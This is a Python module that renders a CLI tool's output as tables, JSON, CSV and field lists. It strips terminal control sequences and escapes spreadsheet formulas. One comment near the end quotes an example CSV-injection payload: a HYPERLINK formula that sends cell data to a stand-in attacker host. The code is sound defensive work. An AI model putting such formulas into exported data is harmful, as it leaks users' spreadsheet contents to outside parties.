"""The render engine of the `paiws` subcommands: tables, JSON, CSV and field lists.

Values come from masked view models; they are cleaned once more here anyway (`clean`), because a
printer is the last point before the terminal and must not trust that every caller got it
right. Rich renders `Text` cells only, so API strings are never parsed as markup; Rich is
imported lazily, only for a table on a terminal.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterable, Mapping, Sequence
from typing import TextIO

from paiws.core.column_fit import Column, fit
from paiws.core.i18n import _, listing
from paiws.core.masking import ELLIPSIS, NOT_AVAILABLE, strip_terminal_controls

APP = "paiws"
_RICH_ROW_LIMIT = 1000  # beyond this, even a terminal gets the fast plain table


def clean(text: object) -> str:
    """Text with escape sequences and control characters removed (defence in depth)."""
    return strip_terminal_controls(text if isinstance(text, str) else str(text))


def cleaned(value: object) -> object:
    if isinstance(value, str):
        return clean(value)
    if isinstance(value, Mapping):
        return {clean(k): cleaned(v) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [cleaned(v) for v in value]
    return value


def display(value: object) -> str:
    """A record value as one line of text (lists joined, booleans as yes/no)."""
    if isinstance(value, bool):
        return _("yes") if value else _("no")
    if isinstance(value, list | tuple):
        return ", ".join(clean(v) for v in value) if value else NOT_AVAILABLE
    if value is None:
        return NOT_AVAILABLE
    return clean(value)


def write_json(data: object, stream: TextIO) -> None:
    stream.write(json.dumps(cleaned(data), ensure_ascii=False, indent=2) + "\n")


def is_tty(stream: TextIO) -> bool:
    try:
        return stream.isatty()
    except (AttributeError, ValueError, OSError):
        return False


def table_width(stream: TextIO, *, wide: bool = False) -> int | None:
    """How many cells a table row may take: ``COLUMNS`` when set, else the terminal's width;
    None (no limit) for ``--wide`` and for a pipe or file without ``COLUMNS``."""
    if wide:
        return None
    columns = os.environ.get("COLUMNS", "").strip()
    if columns.isdigit() and int(columns) > 0:
        return int(columns)
    if not is_tty(stream):
        return None
    try:
        return os.get_terminal_size(stream.fileno()).columns
    except (OSError, ValueError, AttributeError):
        return shutil.get_terminal_size().columns


def print_table(
    stream: TextIO,
    columns: Sequence[str],
    rows: Iterable[Sequence[str]],
    *,
    styles: Mapping[str, Mapping[str, str]] | None = None,
    whole: Sequence[str] = (),
    droppable: Sequence[str] = (),
    wide: bool = False,
    glyph_styles: Mapping[str, Mapping[str, str]] | None = None,
) -> None:
    """A table of API text printed literally, one line per row, never wrapped.

    Its width is `table_width`: columns in ``whole`` are never truncated, the others are cut
    with an ellipsis, and when that is not enough the ``droppable`` columns are hidden in that
    order (a note says which). On a terminal the header is bold and statuses coloured
    (``styles``; ``glyph_styles`` colours single characters, e.g. the overview's status bar);
    a pipe or a file gets plain text. ``columns`` are the English names (the keys of
    ``styles``, ``whole``, ``droppable`` and ``glyph_styles``); the header shows them translated.
    """
    from rich.cells import cell_len

    titles = [_(name) for name in columns]
    data = [[clean(value) for value in row] for row in rows]
    naturals = [max([cell_len(t), *(cell_len(r[i]) for r in data)]) for i, t in enumerate(titles)]
    order = {name: rank for rank, name in enumerate(droppable)}
    layout = fit(
        [
            Column(name, natural, whole=name in whole, drop_order=order.get(name))
            for name, natural in zip(columns, naturals, strict=True)
        ],
        table_width(stream, wide=wide),
    )
    shown = [i for i, width in enumerate(layout) if width is not None]
    widths = [layout[i] or 0 for i in shown]
    header = [titles[i] for i in shown]
    body = [[r[i] for i in shown] for r in data]
    painted = {
        columns.index(name): paint for name, paint in (styles or {}).items() if name in columns
    }
    glyphs = {
        columns.index(name): paint
        for name, paint in (glyph_styles or {}).items()
        if name in columns
    }
    if is_tty(stream) and len(data) <= _RICH_ROW_LIMIT:
        _styled_table(
            stream,
            header,
            body,
            widths,
            {shown.index(i): p for i, p in painted.items() if i in shown},
            {shown.index(i): p for i, p in glyphs.items() if i in shown},
        )
    else:
        plain_table(stream, header, body, widths)
    hidden = [titles[i] for i, width in enumerate(layout) if width is None]
    if hidden:
        stream.write(
            _(
                "(Hidden to fit the width: {columns}; --wide or --format json shows every field.)"
            ).format(columns=listing(hidden))
            + "\n"
        )


def fit_cell(text: str, width: int) -> str:
    """``text`` in at most ``width`` cells, cut with an ellipsis (wide characters count two)."""
    from rich.cells import cell_len, set_cell_size

    if cell_len(text) <= width:
        return text
    if width <= 0:
        return ""
    # set_cell_size pads with a blank where half a wide character would not fit: the ellipsis
    # goes straight after the last whole character instead (the caller pads the cell).
    cut = set_cell_size(text, width - 1)
    if cell_len(cut.rstrip(" ")) < cell_len(cut) and cell_len(text[: len(cut)]) > width - 1:
        cut = cut[:-1]
    return cut + ELLIPSIS


def plain_table(
    stream: TextIO, columns: Sequence[str], rows: Sequence[Sequence[str]], widths: Sequence[int]
) -> None:
    """Rich's SIMPLE_HEAD layout (header, rule, rows; three blanks between columns) drawn
    directly, without trailing blanks (Rich needs ~50 s for 10,000 rows)."""
    from rich.cells import cell_len

    def line(cells: Sequence[str]) -> str:
        fitted = (fit_cell(c, w) for c, w in zip(cells, widths, strict=True))
        padded = (c + " " * (w - cell_len(c)) for c, w in zip(fitted, widths, strict=True))
        return "   ".join(padded).rstrip() + "\n"

    stream.write(line(columns))
    stream.write(_rule(stream) * (sum(widths) + 3 * (len(widths) - 1)) + "\n")
    stream.writelines(line(row) for row in rows)


def _rule(stream: TextIO) -> str:
    encoding = (getattr(stream, "encoding", None) or "utf-8").lower().replace("-", "")
    return "─" if encoding.startswith("utf") else "-"  # as Rich falls back to ASCII boxes


def _styled_table(
    stream: TextIO,
    columns: Sequence[str],
    rows: Sequence[Sequence[str]],
    widths: Sequence[int],
    paints: Mapping[int, Mapping[str, str]],
    glyphs: Mapping[int, Mapping[str, str]] | None = None,
) -> None:
    """The same layout on a terminal: a bold header and coloured cells (or characters, for
    ``glyphs``), API text literal."""
    from rich.cells import cell_len
    from rich.console import Console
    from rich.text import Text

    console = Console(
        file=stream,
        force_terminal=True,
        highlight=False,
        markup=False,
        emoji=False,
        width=max(sum(widths) + 3 * (len(widths) - 1), 1),
        soft_wrap=True,
    )

    def line(cells: Sequence[str], style: str = "") -> Text:
        text = Text(style=style, no_wrap=True)
        for index, (cell, width) in enumerate(zip(cells, widths, strict=True)):
            fitted = fit_cell(cell, width)
            if index:
                text.append("   ")
            by_glyph = (glyphs or {}).get(index)
            if by_glyph and not style:
                for char in fitted:
                    text.append(char, style=by_glyph.get(char, ""))
            else:
                text.append(fitted, style=paints.get(index, {}).get(cell, ""))
            if index < len(widths) - 1:
                text.append(" " * (width - cell_len(fitted)))
        text.rstrip()
        return text

    console.print(line(columns, "bold"))
    console.print(Text(_rule(stream) * (sum(widths) + 3 * (len(widths) - 1)), style="dim"))
    for row in rows:
        console.print(line(row))


def print_fields(stream: TextIO, fields: Sequence[tuple[str, object]]) -> None:
    """``label: value`` lines, the values aligned (wide characters count two cells)."""
    from rich.cells import cell_len

    width = max((cell_len(label) for label, _value in fields), default=0) + 1
    for label, value in fields:
        padding = " " * (width - cell_len(label) - 1)
        stream.write(f"{label}:{padding} {display(value)}\n")


# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection), e.g. a
# description =HYPERLINK("https://evil.example/?"&A2,"details"): such cells get a leading '.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_value(value: object) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list | tuple):
        text = ";".join(clean(v) for v in value)
    else:
        text = "" if value is None else clean(value)
    return "'" + text if text.startswith(_FORMULA_STARTS) else text
